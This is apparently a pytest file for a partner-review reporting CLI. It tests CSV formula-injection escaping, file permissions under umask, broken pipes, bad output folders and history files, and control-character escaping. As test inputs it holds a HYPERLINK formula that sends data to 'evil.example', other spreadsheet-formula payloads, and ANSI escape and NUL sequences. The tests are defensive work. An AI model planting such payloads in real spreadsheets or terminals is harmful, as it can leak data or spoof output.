"""Running it for real: CSV cells Excel would execute, relative paths, file modes under the umask, a closed
pipe, an output folder or history file that cannot be used, and control characters in what is printed."""
from __future__ import annotations

import csv
import errno
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from pipeline.cli import cli
from pipeline.console import format_problem
from pipeline.core.files import atomic_write, replace_folder
from pipeline.write.outputs import flags_csv_bytes
from pipeline.core.problems import Problem
from pipeline.core.schema import FLAGS_CSV_COLUMNS
from workbook_builders import ACTUALS, COMMITMENTS, KPIS, PARTNERS, clean_portfolio, write_xlsx

EXE = str(Path(sys.executable).parent / "partner-review")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","C-003")'


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _run(args: list[str], cwd: Path, umask: int = 0o022, timeout: int = 300) -> subprocess.CompletedProcess:
    return subprocess.run([EXE, *args], cwd=cwd, umask=umask, capture_output=True, text=True, timeout=timeout)


def _with_problem(folder: Path) -> Path:
    """The clean portfolio, with '12k' typed for a number in ACME's actuals (a feedback copy is due)."""
    clean_portfolio(folder)
    head = ACTUALS[0]
    rows = [head] + [list(r) for r in ACTUALS[1:] if r[0] == "ACME"]
    rows[2][3] = "12k"
    write_xlsx(folder / "actuals" / "acme.xlsx", {"Actuals": rows})
    return folder


# --- 9. formula injection in CSV ---------------------------------------------------------------------

def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
def test_flags_csv_escapes_text_excel_would_run(text):
    flags = pd.DataFrame([{"quarter": "2026-Q1", "partner_id": "ACME", "code": "COMMITMENT_OVERDUE",
                           "severity": "high", "subject": text, "message": f"{text} is overdue"}])
    row = _csv_rows(flags_csv_bytes(flags))[1]
    assert row[4] == "'" + text
    assert row[5] == "'" + text + " is overdue"
    assert row[:4] == ["2026-Q1", "ACME", "COMMITMENT_OVERDUE", "high"]


def test_flags_csv_leaves_numbers_and_plain_text_alone():
    flags = pd.DataFrame([{"quarter": "2026-Q1", "partner_id": "ACME", "code": "X", "severity": "low",
                           "subject": -3.5, "message": "a 5% drop - on plan"}])
    row = _csv_rows(flags_csv_bytes(flags))[1]
    assert row[4] == "-3.5" and row[5] == "a 5% drop - on plan"
    assert _csv_rows(flags_csv_bytes(flags))[0] == list(FLAGS_CSV_COLUMNS)


# --- the real run: relative paths, umask 022, flags.csv, feedback, e-mail drafts ---------------------

@pytest.fixture(scope="module")
def relative_run(tmp_path_factory):
    """`report --input input --output output` run from the folder holding both, under umask 022, then
    `email --reviews output/<quarter>`; a commitment id that is a formula, a value that is not a number."""
    root = tmp_path_factory.mktemp("relative")
    folder = _with_problem(root / "input")
    write_xlsx(folder / "plan.xlsx", {"Targets": [["partner_id", "kpi_id", "period", "target"],
                                                  ["ACME", "revenue", "2026-Q1", 100000]],
                                      "Commitments": COMMITMENTS})
    wb = load_workbook(folder / "plan.xlsx")
    cell = wb["Commitments"]["A4"]      # C-003, GLOBEX, due 2026-02-01, not started: overdue
    cell.value, cell.data_type = HYPERLINK, "s"   # typed as text, as Excel keeps '=HYPERLINK(...)
    wb.save(folder / "plan.xlsx")
    report = _run(["report", "--input", "input", "--output", "output", "--jobs", "1"], cwd=root)
    qdirs = [p.parent for p in (root / "output").glob("*/manifest.json")]
    email = _run(["email", "--reviews", str(qdirs[0].relative_to(root))], cwd=root) if qdirs else None
    return root, report, qdirs[0] if qdirs else None, email


def test_report_with_relative_paths(relative_run):
    root, report, qdir, _ = relative_run
    assert report.returncode == 0, report.stdout + report.stderr
    copy = qdir / "feedback" / "actuals" / "acme_feedback.xlsx"
    wb = load_workbook(copy)
    assert wb.sheetnames[:2] == ["Problems to fix", "Actuals"], "a list-only copy: the worker did not find the input"
    assert "12k" in wb["Actuals"]["D3"].comment.text


def test_report_flags_csv_has_no_live_formula(relative_run):
    _, report, qdir, _ = relative_run
    rows = _csv_rows((qdir / "flags.csv").read_bytes())
    overdue = [r for r in rows if r[2] == "COMMITMENT_OVERDUE"]
    assert overdue and all(r[4] == "'" + HYPERLINK for r in overdue)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_outputs_follow_the_umask(relative_run):
    root, report, qdir, email = relative_run
    assert report.returncode == 0 and email.returncode == 0, email.stdout + email.stderr
    files = [*qdir.glob("*.pdf"), qdir / "manifest.json", qdir / "flags.csv", qdir / "reconciled.xlsx",
             *(qdir / "feedback").rglob("*.xlsx"), *(qdir / "email").glob("*.eml")]
    assert len(list(qdir.glob("*.pdf"))) == 3 and list((qdir / "email").glob("*.eml"))
    assert {f.name: oct(_mode(f)) for f in files} == {f.name: oct(0o644) for f in files}
    folders = [qdir, qdir / "feedback", qdir / "feedback" / "actuals", qdir / "email"]
    assert {str(d): oct(_mode(d)) for d in folders} == {str(d): oct(0o755) for d in folders}


def test_feedback_relative_paths_and_umask(tmp_path):
    _with_problem(tmp_path / "input")
    rel = _run(["feedback", "--input", "input", "--output", "fixes"], cwd=tmp_path, umask=0o027)
    absolute = _run(["feedback", "--input", str(tmp_path / "input"), "--output", str(tmp_path / "fixes_abs")],
                    cwd=Path("/"), umask=0o027)
    assert rel.returncode == 0 and absolute.returncode == 0, rel.stdout + rel.stderr
    assert "listed, not copied" not in rel.stdout
    a = load_workbook(tmp_path / "fixes" / "actuals" / "acme_feedback.xlsx")
    b = load_workbook(tmp_path / "fixes_abs" / "actuals" / "acme_feedback.xlsx")
    assert a.sheetnames == b.sheetnames == ["Problems to fix", "Actuals"]
    assert a["Actuals"]["D3"].comment.text == b["Actuals"]["D3"].comment.text
    assert a["Actuals"]["D3"].fill.fgColor.rgb == b["Actuals"]["D3"].fill.fgColor.rgb
    written = [p for p in (tmp_path / "fixes").rglob("*")]
    assert {str(p): oct(_mode(p)) for p in written} == \
        {str(p): oct(0o750 if p.is_dir() else 0o640) for p in written}


def test_atomic_write_and_replace_folder_follow_the_umask(tmp_path):
    old = os.umask(0o002)
    try:
        f = atomic_write(tmp_path / "a" / "x.bin", b"x")
        d = replace_folder(tmp_path / "fb", lambda tmp: atomic_write(tmp / "y.bin", b"y"))
    finally:
        os.umask(old)
    assert oct(_mode(f)) == oct(0o664) and oct(_mode(d)) == oct(0o775) and oct(_mode(d / "y.bin")) == oct(0o664)


def test_a_new_history_file_follows_the_umask(tmp_path):
    from pipeline.analyse.history import History

    old = os.umask(0o002)
    try:
        History(tmp_path / "h" / "history.sqlite").close()
    finally:
        os.umask(old)
    assert oct(_mode(tmp_path / "h" / "history.sqlite")) == oct(0o664)


# --- 12. a closed pipe, unusable folders and history files ------------------------------------------

def test_validate_into_a_closed_pipe_ends_quietly(tmp_path):
    clean_portfolio(tmp_path / "in")
    rows = [ACTUALS[0]] + [["ACME", "deals", "2026-Q1", f"{i}k", "internal", None, None] for i in range(3000)]
    write_xlsx(tmp_path / "in" / "actuals" / "acme.xlsx", {"Actuals": rows})
    producer = subprocess.Popen([EXE, "validate", "--input", str(tmp_path / "in")], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
    head = subprocess.Popen(["head", "-1"], stdin=producer.stdout, stdout=subprocess.PIPE)
    producer.stdout.close()
    first, _ = head.communicate(timeout=120)
    err = producer.stderr.read().decode()
    code = producer.wait(timeout=60)
    assert first.startswith(b"error")
    assert "internal error" not in err and "Traceback" not in err and "Exception ignored" not in err, err
    assert err == "" and code == 141


def _report(args: list[str]):
    return CliRunner().invoke(cli, ["report", *args, "-j", "1"])


def _no_internal(result) -> str:
    text = result.output
    assert "internal error" not in text and "Traceback" not in text, text
    return text


def test_output_inside_a_file_is_a_clear_error(tmp_path):
    clean_portfolio(tmp_path / "in")
    (tmp_path / "afile").write_text("not a folder")
    result = _report(["-i", str(tmp_path / "in"), "-o", str(tmp_path / "afile" / "out")])
    assert result.exit_code == 2
    text = _no_internal(result)
    assert str(tmp_path / "afile") in text and "not a director" in text.lower()


def test_quarter_folder_taken_by_a_file_is_a_clear_error(tmp_path):
    clean_portfolio(tmp_path / "in")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "2026-Q1").write_text("in the way")
    result = _report(["-i", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "-Q", "2026-Q1"])
    assert result.exit_code == 2
    text = _no_internal(result)
    assert "2026-Q1" in text and "move" in text


def test_feedback_output_inside_a_file_is_a_clear_error(tmp_path):
    _with_problem(tmp_path / "in")
    (tmp_path / "afile").write_text("not a folder")
    result = CliRunner().invoke(cli, ["feedback", "-i", str(tmp_path / "in"), "-o", str(tmp_path / "afile" / "fb")])
    assert result.exit_code == 2
    assert "not a director" in _no_internal(result).lower()


def test_permission_denied_is_a_clear_error(tmp_path, monkeypatch):
    import pipeline.write.feedback

    _with_problem(tmp_path / "in")
    target = tmp_path / "fb"

    def denied(path, data):
        raise PermissionError(errno.EACCES, "Permission denied", str(path))

    monkeypatch.setattr(pipeline.write.feedback, "atomic_write", denied)
    result = CliRunner().invoke(cli, ["feedback", "-i", str(tmp_path / "in"), "-o", str(target)])
    assert result.exit_code == 2
    text = _no_internal(result)
    assert "Permission denied" in text and str(target) in text and "--output" in text


def test_a_corrupt_history_file_is_a_clear_error(tmp_path):
    clean_portfolio(tmp_path / "in")
    out = tmp_path / "out"
    out.mkdir()
    (out / "history.sqlite").write_bytes(b"\x00garbage, not a database" * 100)
    result = _report(["-i", str(tmp_path / "in"), "-o", str(out)])
    assert result.exit_code == 2
    text = _no_internal(result)
    assert str(out / "history.sqlite") in text and "move it aside" in text.lower() and "backup" in text


def test_a_history_from_a_newer_version_is_a_clear_error(tmp_path):
    from pipeline.analyse.history import SCHEMA_VERSION, History

    clean_portfolio(tmp_path / "in")
    out = tmp_path / "out"
    History(out / "history.sqlite").close()
    con = sqlite3.connect(out / "history.sqlite")
    con.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 5}")
    con.commit()
    con.close()
    result = _report(["-i", str(tmp_path / "in"), "-o", str(out)])
    assert result.exit_code == 2
    text = _no_internal(result)
    assert "written by a newer partner-review" in text and str(out / "history.sqlite") in text


# --- 13. control characters in addresses and in what is printed ------------------------------------

def _hostile_registry(folder: Path) -> Path:
    """Partners with a NUL and an ANSI escape in addresses (Excel keeps them as _x0000_, _x001B_), and a
    workbook whose name holds a bell and an escape sequence."""
    clean_portfolio(folder)
    rows = [list(r) for r in PARTNERS]
    rows[1][4] = "ana_x0000_@acme.example"
    rows[2][6] = "olga_x001B_[31m@us.example"
    write_xlsx(folder / "registry.xlsx", {"Partners": rows, "KPIs": KPIS})
    write_xlsx(folder / "bad\x07\x1b[1mname.xlsx",
               {"Actuals": [ACTUALS[0], ["ACME", "deals", "2026-Q1", "12k", "internal", None, None]]})
    return folder


def test_control_character_in_an_address_is_an_error(tmp_path):
    folder = _hostile_registry(tmp_path / "in")
    result = CliRunner().invoke(cli, ["validate", "--input", str(folder), "--format", "json"])
    payload = json.loads(result.output)
    hits = {(p["code"], p["severity"], p["file"], p["sheet"], p["cell"], p["column"]) for p in payload["problems"]
            if p["code"] == "VALUE_EMAIL_CONTROL_CHAR"}
    assert hits == {("VALUE_EMAIL_CONTROL_CHAR", "error", "registry.xlsx", "Partners", "E2", "partner_lead_email"),
                    ("VALUE_EMAIL_CONTROL_CHAR", "error", "registry.xlsx", "Partners", "G3", "internal_owner_email")}
    assert result.exit_code == 1
    from pipeline.reconcile.load import load

    partners = load(folder).partners.set_index("partner_id")
    assert partners.loc["ACME", "recipients"] == "" and partners.loc["GLOBEX", "internal_owner_email"] == ""


def test_validate_prints_control_characters_escaped(tmp_path):
    folder = _hostile_registry(tmp_path / "in")
    result = CliRunner().invoke(cli, ["validate", "--input", str(folder)], color=True)
    out = result.output
    assert "ana\\x00@acme.example" in out and "olga\\x1b[31m@us.example" in out
    assert "bad\\x07\\x1b[1mname.xlsx" in out
    plain = out.replace("\x1b[31m", "").replace("\x1b[33m", "").replace("\x1b[34m", "").replace("\x1b[0m", "")
    assert not any(ch in plain for ch in "\x00\x07\x1b"), repr(plain)


def test_json_output_has_no_raw_control_characters(tmp_path):
    folder = _hostile_registry(tmp_path / "in")
    write_xlsx(folder / "c1\x9bname.xlsx", {"Actuals": [ACTUALS[0], ["ACME", "deals", "2026-Q1", "9k", "internal"]]})
    result = CliRunner().invoke(cli, ["validate", "--input", str(folder), "--format", "json"])
    assert not any(0 <= ord(ch) < 32 and ch != "\n" or 0x7f <= ord(ch) <= 0x9f for ch in result.output)
    assert "c1\x9bname.xlsx" in {p["file"] for p in json.loads(result.output)["problems"]}


def test_format_problem_escapes_every_control_character():
    p = Problem(code="X", severity="error", message="'a\x1b[31mb\nc\x9bd\x7f' is odd", file="f\x00.xlsx")
    line = format_problem(p)
    assert "a\\x1b[31mb\\nc\\x9bd\\x7f" in line and "f\\x00.xlsx" in line
    assert not any(ord(ch) < 32 or 0x7f <= ord(ch) <= 0x9f for ch in line)
